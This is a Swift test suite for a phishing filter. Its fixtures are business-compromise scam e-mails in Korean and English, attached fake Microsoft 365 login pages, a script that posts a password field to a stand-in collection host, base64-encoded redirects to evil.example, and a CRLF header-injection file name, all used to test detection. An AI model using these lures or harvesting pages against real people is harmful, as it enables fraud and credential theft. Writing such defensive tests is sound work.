import Foundation
import Testing

@testable import HaetaeFilter
@testable import MIME

/// Business e-mail compromise (PaymentDiversionRules.swift) and attached pages that ask for a
/// password or run decoding script (AttachmentRules.swift). Regressions of ko-fresh3 (retired as a
/// held-out set when read): a supplier's "changed account" with replies to Gmail, a CEO's secret
/// transfer and gift-card codes from free mailboxes, and an e-signature lure with a Microsoft 365
/// login page attached, all Passed before.
struct PaymentDiversionAndAttachedPageTests {
    static let model = DefaultModel.load()!
    let scanner = ContentScanner(model: PaymentDiversionAndAttachedPageTests.model)

    func message(from: String, replyTo: String? = nil, subject: String, body: String, extraHeaders: [String] = []) -> [UInt8] {
        var lines = ["From: \(from)", "To: <staff@haeoreum.example>", "Subject: \(subject)", "Date: Tue, 17 Nov 2026 10:02:00 +0900",
                     "Message-ID: <m1@mail.example>", "MIME-Version: 1.0", "Content-Type: text/plain; charset=UTF-8"]
        if let replyTo { lines.append("Reply-To: \(replyTo)") }
        lines += extraHeaders
        return Array((lines + ["", body, ""]).joined(separator: "\r\n").utf8)
    }

    func rules(_ bytes: [UInt8]) -> ContentRules { ContentRules(MessageFeatures(MIMEParser().parse(bytes))) }

    static let ceoTransfer = "이하린 매니저, 지금 외부 미팅 중이라 전화는 어렵고 메일로 부탁합니다. 거래처 계약금 건으로 오늘 중 급히 송금해야 할 건이 있습니다. 다른 직원들에게는 아직 공유하지 말아 주세요."
    static let giftCards = "김지우 씨, 거래처 선물용으로 구글 기프트카드 10만원권 10장이 필요합니다. 편의점에서 구매해서 뒷면 핀번호를 사진으로 보내주세요. 회의 중이라 메일로만 연락 가능합니다."
    static let changedAccount = "당사 주거래 은행 변경으로 이번 달부터 대금 입금 계좌가 아래와 같이 변경되었습니다. 변경 계좌: 우리은행 1002-000-000771. 금주 금요일까지 처리 부탁드립니다."

    @Test(arguments: [
        ("최영호 대표 <ceo.choi.example@gmail.com>", nil as String?, "급한 송금 건 확인 부탁합니다", ceoTransfer),
        ("최영호 <haeoreum_ceo@naver.com>", nil, "지금 자리에 있나요?", giftCards),
        ("오세영 과장 <sy.oh@daeil-pak.example>", "<daeil.account.change@gmail.com>", "RE: 견적서 - 입금 계좌 변경 안내", changedAccount),
        ("Mark Ellison <m.ellison.ceo@outlook.com>", nil, "Quick favor",
         "Are you at your desk? I need you to get 5 Apple gift cards of $200 for a client. Scratch the back and send me photos of the codes. I'm in a meeting and can't talk."),
        ("Accounts <accounts@supplier-parts.example>", "<supplier.accounts@gmail.com>", "Invoice 4471",
         "Please note our bank details have changed. Kindly remit payment for invoice 4471 to the new bank account below."),
    ])
    func aPaymentDiversionFromAFreeMailboxIsPhishing(from: String, replyTo: String?, subject: String, body: String) {
        let bytes = message(from: from, replyTo: replyTo, subject: subject, body: body)
        #expect(rules(bytes).markers.contains("payment-diversion"), "\(rules(bytes).markers)")
        let result = scanner.scan(bytes)
        #expect(result.verdicts == [.phishing], "\(result)")
    }

    /// A supplier at its own domain may really change banks; a friend may write about a transfer.
    @Test func theSameWordsFromTheSendersOwnDomainAreNoDiversion() {
        let bytes = message(from: "오세영 과장 <sy.oh@daeil-pack.example>", subject: "입금 계좌 변경 안내", body: Self.changedAccount)
        #expect(!rules(bytes).markers.contains("payment-diversion"))
        let friend = message(from: "수빈 <subin_0412@hanmail.net>", subject: "캠핑비", body: "어제 캠핑비 송금했어! 확인해줘~ 다음 주에 보자")
        #expect(!rules(friend).markers.contains("payment-diversion"))
    }

    @Test func aWarningThatQuotesTheScamIsNoDiversion() {
        let bytes = message(from: "팀장 <lead.kim@gmail.com>", subject: "FW: 대표님 사칭 메일 주의",
                            body: "이런 사칭 메일이 돌고 있으니 주의하세요. 사기입니다.\n\n> " + Self.giftCards)
        #expect(!rules(bytes).markers.contains("payment-diversion"))
    }

    func withAttachment(_ name: String, type: String, _ page: String) -> [UInt8] {
        let text = """
            From: 전자계약 서비스 <sign@esign-contract.example>
            To: <minho.jung@haeoreum.example>
            Subject: [전자계약] 성과급 지급 동의서 서명 요청
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary=b

            --b
            Content-Type: text/plain; charset=UTF-8

            첨부된 문서를 열어 회사 메일 계정으로 로그인한 뒤 서명해 주세요.
            --b
            Content-Type: \(type); name=\(name)
            Content-Disposition: attachment; filename=\(name)

            \(page)
            --b--

            """
        return Array(text.replacingOccurrences(of: "\n", with: "\r\n").utf8)
    }

    @Test func anAttachedLoginPageIsPhishing() {
        let page = #"<html><title>Microsoft 365</title><form action="https://esign-contract.example/collect" method="post"><input name="login" value="minho.jung@haeoreum.example"><input name="passwd" type="password"><button>로그인</button></form></html>"#
        let bytes = withAttachment("동의서.htm", type: "text/html", page)
        let found = rules(bytes)
        #expect(found.markers.contains("attach-login-form"), "\(found.markers)")
        #expect(found.namesPhishingScheme)
        #expect(scanner.scan(bytes).verdicts == [.phishing])
    }

    @Test(arguments: [
        ##"<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv") + "#victim"</script></svg>"##,
        #"<html><script>document.write(unescape("%3C%66%6F%72%6D%3E"))</script></html>"#,
        #"<html><head><meta http-equiv="refresh" content="0; url=https://evil.example/"></head></html>"#,
    ])
    func anAttachedPageThatDecodesOrRedirectsIsMarked(page: String) {
        let name = page.hasPrefix("<svg") ? "voicemail.svg" : "remittance.html"
        let found = rules(withAttachment(name, type: page.hasPrefix("<svg") ? "image/svg+xml" : "text/html", page))
        #expect(found.markers.contains("attach-active-script"), "\(found.markers)")
    }

    /// An HTML receipt or ticket carries neither: it is only an HTML attachment.
    @Test func anOrdinaryHTMLReceiptIsOnlyAnAttachment() {
        let page = "<html><body><h1>Receipt</h1><table><tr><td>Filters</td><td>$49.00</td></tr></table><a href=\"https://shop.example/orders/1\">Your order</a></body></html>"
        let found = rules(withAttachment("receipt.html", type: "text/html", page))
        #expect(found.markers.contains("attach-html"))
        #expect(!found.markers.contains("attach-login-form"))
        #expect(!found.markers.contains("attach-active-script"))
        #expect(!found.namesPhishingScheme)
    }

    /// Attack: the attached page's file name is the sender's text and goes into the reasons. A name
    /// of 5,000 characters with CR LF in it (RFC 2231 percent-encoding) is cut to 100 characters,
    /// and the tagged header carries no line of the attacker's.
    @Test func aHostileAttachmentNameIsBoundedAndCannotAddAHeader() {
        let page = "<form action=\"https://collect.example/p\"><input type=password></form>"
        let name = "invoice%0D%0AInjected:%20yes%0D%0A" + String(repeating: "a", count: 5_000) + ".html"
        let bytes = withAttachment("x.html", type: "text/html", page).map { $0 }
        let text = String(decoding: bytes, as: UTF8.self)
            .replacingOccurrences(of: "Content-Disposition: attachment; filename=x.html", with: "Content-Disposition: attachment; filename*=UTF-8''" + name)
        let hostile = Array(text.utf8)
        let found = rules(hostile)
        let reason = found.phishing.first { $0.contains("asks for a password") } ?? ""
        #expect(!reason.isEmpty, "\(found.phishing)")
        #expect(reason.count < 140, "\(reason.count)")
        let tagged = String(decoding: MessageTagger().tag(hostile, result: scanner.scan(hostile)), as: UTF8.self)
        #expect(!tagged.contains("\r\nInjected:") && !tagged.contains("\nInjected:"), "\(tagged.prefix(600))")
    }

    @Test func aHugeAttachedPageIsReadOnlyToItsLimit() {
        let form = "<form action=\"https://collect.example/p\"><input type=password></form>"
        let filler = String(repeating: "<p>text</p>", count: 100_000)
        #expect(!AttachedPage(Array((filler + form).utf8)).asksForPassword)
        #expect(AttachedPage(Array(form.utf8)).asksForPassword)
    }

    /// A Korean card statement's secure mail (보안메일) is an attached page that asks for the birth
    /// date that decrypts it in place; it sends the password nowhere, and is no login page
    /// (regression: ko-fresh4, held out, showed a ham marked Phishing by `attach-login-form`).
    @Test func aSecureMailThatDecryptsInPlaceIsNoLoginPage() {
        let secureMail = #"<html><body><p>보안메일: 생년월일 6자리를 입력하세요</p><input type="password" id="pw"><button onclick="decrypt()">확인</button></body></html>"#
        #expect(!AttachedPage(Array(secureMail.utf8)).asksForPassword)
        let posting = #"<html><input type="password" id="pw"><script>fetch("https://collect.example/p", {method: "POST", body: pw.value})</script></html>"#
        #expect(AttachedPage(Array(posting.utf8)).asksForPassword)
    }

    func withAttachment(from: String, _ name: String, _ page: String) -> [UInt8] {
        let text = String(decoding: withAttachment(name, type: "text/html", page), as: UTF8.self)
            .replacingOccurrences(of: "From: 전자계약 서비스 <sign@esign-contract.example>", with: "From: \(from)")
        return Array(text.utf8)
    }

    /// A card company's secure mail that asks its own server to decrypt, and an encrypted message
    /// from Cisco's Secure Email Encryption (`securedoc.html`, posting to res.cisco.com), send the
    /// password home: no login lure. The same page from a look-alike domain, posting elsewhere, to
    /// a protocol-relative foreign address, or decoding itself is one.
    @Test func aSecureMailThatSendsThePasswordHomeIsNoLoginPage() {
        let home = #"<html><img src="https://img.hyundaicard.com/logo.png"><form action="https://sec.hyundaicard.com/securemail/open" method="post"><input type="password" name="birth"></form></html>"#
        let card = "현대카드 <statement@hyundaicard.com>"
        #expect(!rules(withAttachment(from: card, "명세서.html", home)).markers.contains("attach-login-form"))
        let cisco = #"<html><form action="https://res.cisco.com/websafe/decrypt" method="post"><input type="password" name="key1"></form><script src="https://res.cisco.com/websafe/js/open.js"></script></html>"#
        #expect(!rules(withAttachment(from: "Claims <claims@insurer.example>", "securedoc.html", cisco)).markers.contains("attach-login-form"))

        #expect(rules(withAttachment(from: "현대카드 <statement@hyundaicard-secure.example>", "명세서.html", home)).markers.contains("attach-login-form"))
        let elsewhere = home.replacingOccurrences(of: "https://sec.hyundaicard.com/securemail/open", with: "https://collect.example/p")
        #expect(rules(withAttachment(from: card, "명세서.html", elsewhere)).markers.contains("attach-login-form"))
        let relative = home.replacingOccurrences(of: "https://sec.hyundaicard.com/securemail/open", with: "//collect.example/p")
        #expect(rules(withAttachment(from: card, "명세서.html", relative)).markers.contains("attach-login-form"))
        let decoding = home + #"<script>document.forms[0].action = atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvcA==")</script>"#
        #expect(rules(withAttachment(from: card, "명세서.html", decoding)).markers.contains("attach-login-form"))
        // A free mailbox is nobody's home, even one of a brand's provider.
        let mailbox = home.replacingOccurrences(of: "sec.hyundaicard.com", with: "mail.naver.com")
        #expect(rules(withAttachment(from: "현대카드 <hyundaicard.notice@naver.com>", "명세서.html", mailbox)).markers.contains("attach-login-form"))
    }

    /// Regression (modern-fresh2): voicemail notices whose "recording" was an attached page that
    /// decodes and redirects, or a ZIP holding one, passed — signed by the sending domain, whose
    /// credit offset the attachment's weight. A voicemail that is a page is a lure, and an attached
    /// page that sends the reader elsewhere withholds the signing credit.
    @Test func aVoicemailThatIsAnAttachedPageIsALure() {
        let page = #"<html><script>var u = atob("aHR0cHM6Ly92bS5leGFtcGxlL3A="); window.location.href = u;</script></html>"#
        let text = String(decoding: withAttachment("VM_Play_3718.htm", type: "text/html", page), as: UTF8.self)
            .replacingOccurrences(of: "Subject: [전자계약] 성과급 지급 동의서 서명 요청", with: "Subject: New voicemail (00:30) from +1 555 0194")
            .replacingOccurrences(of: "From: 전자계약 서비스 <sign@esign-contract.example>",
                                  with: "From: Voicemail <vm@pbx-notify.example>\r\nDKIM-Signature: v=1; a=rsa-sha256; d=pbx-notify.example; s=s1; h=from; bh=x; b=y")
        let found = rules(Array(text.utf8))
        #expect(found.markers.contains("voicemail-lure"), "\(found.markers)")
        #expect(found.luresOutsideTheText)
        #expect(!found.scoreReasons.contains("dkim-aligned"), "\(found.scoreReasons)")
        #expect(found.namesPhishingScheme)
        // A voicemail with its audio attached is no lure.
        let audio = text.replacingOccurrences(of: "Content-Type: text/html; name=VM_Play_3718.htm", with: "Content-Type: audio/wav; name=message.wav")
            .replacingOccurrences(of: "filename=VM_Play_3718.htm", with: "filename=message.wav")
        #expect(!rules(Array(audio.utf8)).markers.contains("voicemail-lure"))
        // A fax number in a signature is no voicemail.
        let signature = String(decoding: withAttachment("명세서.html", type: "text/html", "<html><p>명세서</p></html>"), as: UTF8.self)
            .replacingOccurrences(of: "첨부된 문서를 열어", with: "전화 02-123-4567 팩스 02-123-4568. 첨부된 문서를 열어")
        #expect(!rules(Array(signature.utf8)).markers.contains("voicemail-lure"))
    }

    /// Regression (ko-fresh5): a "purchase order" whose ZIP held a web page passed at 1.36. A page
    /// packed in an archive weighs more than an attached page and withholds the signing credit.
    @Test func aPagePackedInAnArchiveIsALureOutsideTheText() {
        let zip: [UInt8] = [0x50, 0x4B, 0x03, 0x04, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 15, 0, 0, 0]
            + Array("PO-2025-112.htm".utf8)
        let text = """
            From: 구매팀 <mh.park@purchasing-order.example>
            Subject: 구매발주서 확인 요청드립니다
            DKIM-Signature: v=1; a=rsa-sha256; d=purchasing-order.example; s=s1; h=from; bh=x; b=y
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary=b

            --b
            Content-Type: text/plain; charset=UTF-8

            발주서를 첨부와 같이 송부드립니다. 확인 후 회신 부탁드립니다.
            --b
            Content-Type: application/zip; name=PO-2025-112.zip
            Content-Disposition: attachment; filename=PO-2025-112.zip
            Content-Transfer-Encoding: base64

            \(Data(zip).base64EncodedString())
            --b--

            """
        let found = rules(Array(text.replacingOccurrences(of: "\n", with: "\r\n").utf8))
        #expect(found.markers.contains("attach-archive-html"), "\(found.markers)")
        #expect(found.scoreReasons.contains("archived-page"), "\(found.scoreReasons)")
        #expect(found.luresOutsideTheText)
        #expect(!found.scoreReasons.contains("dkim-aligned"))
    }

    /// Attack: a page of 20,000 form targets and URLs (the sender's text) is read to its limits —
    /// 50 form targets and 300 URLs — when deciding where a password would go.
    @Test func aPageOfManyTargetsIsReadToItsLimits() {
        let many = String(repeating: #"<form action="//collect.example/p"><a href="https://x.example/">x</a></form>"#, count: 20_000)
        let page = AttachedPage(Array((#"<input type="password">"# + many).utf8))
        #expect(page.asksForPassword)
        #expect(page.addressHosts.count <= 350, "\(page.addressHosts.count)")
        #expect(AttachedPage.formTargets(String(repeating: "action=x ", count: 100_000)).count == 50)
    }

    /// Kakao's subsidiaries mail from their own domains (ko-fresh3: a Kakao T receipt from
    /// kakaomobility.com was Phishing as a look-alike of kakao).
    @Test func kakaoGroupDomainsAreKakaos() {
        let kakao = BrandList.builtIn.brands.first { $0.key == "kakao" }!
        for domain in ["kakaomobility.com", "kakaobank.com", "kakaogames.com", "kakaoent.com"] {
            #expect(kakao.owns(host: "mail." + domain), "\(domain)")
            #expect(BrandList.builtIn.imitatedBrand(host: domain) == nil, "\(domain)")
        }
        #expect(BrandList.builtIn.imitatedBrand(host: "kakao-security.example") != nil)
    }

    /// Vouchers and card limits sold for cash, leads sold by the month, no-capital shop courses,
    /// grant "consultants": Korean spam trades the lexicon named too narrowly.
    @Test(arguments: [
        ("신용카드 남은 한도 현금으로 바꿔드립니다", KoreanLexicon.Category.cashing),
        ("백화점 상품권 최고가 매입 95%", .cashing),
        ("신규 환자 상담 DB 월 200건 보장", .marketing),
        ("무자본 스마트스토어 위탁판매로 월 천만원", .job),
        ("미신청 청년 지원금 조회, 대행 신청 가능", .urgency),
    ])
    func koreanTradesAreFound(text: String, category: KoreanLexicon.Category) {
        let found = KoreanLexicon.categories(in: TextNormalizer.normalize(text).text)
        #expect(found[category] != nil, "\(found)")
    }
}
